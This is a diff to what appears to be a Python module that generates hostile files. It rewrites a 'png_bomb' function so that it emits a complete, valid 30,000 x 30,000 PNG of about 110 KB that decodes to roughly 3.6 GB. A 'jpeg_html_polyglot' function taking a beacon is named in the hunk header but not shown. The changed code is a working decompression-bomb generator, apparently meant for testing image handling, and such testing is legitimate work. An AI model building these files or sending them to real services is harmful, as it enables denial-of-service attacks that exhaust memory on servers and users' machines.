@@ -71,16 +71,17 @@ def jpeg_html_polyglot(beacon: str) -> bytes:
 
 
 def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
-    """A PNG whose header claims ``width`` x ``height`` pixels (900 million: 3.6 GB
-    decoded) in a few hundred kilobytes of zeros."""
+    """A whole, valid PNG of ``width`` x ``height`` black pixels (900 million, 3.6 GB
+    as RGBA once decoded) in about 110 KB of deflated zeros."""
     def chunk(kind: bytes, data: bytes) -> bytes:
         return (struct.pack(">I", len(data)) + kind + data
                 + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
 
     row = b"\x00" + b"\x00" * ((width + 7) // 8)  # 1 bit per pixel, filter 0
     compressor = zlib.compressobj(9)
-    data = b"".join(compressor.compress(row) for _ in range(min(height, 2000)))
-    data += compressor.flush()
+    block = row * 1000
+    data = b"".join(compressor.compress(block) for _ in range(height // 1000))
+    data += compressor.compress(row * (height % 1000)) + compressor.flush()
     ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
     return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", data)
             + chunk(b"IEND", b""))
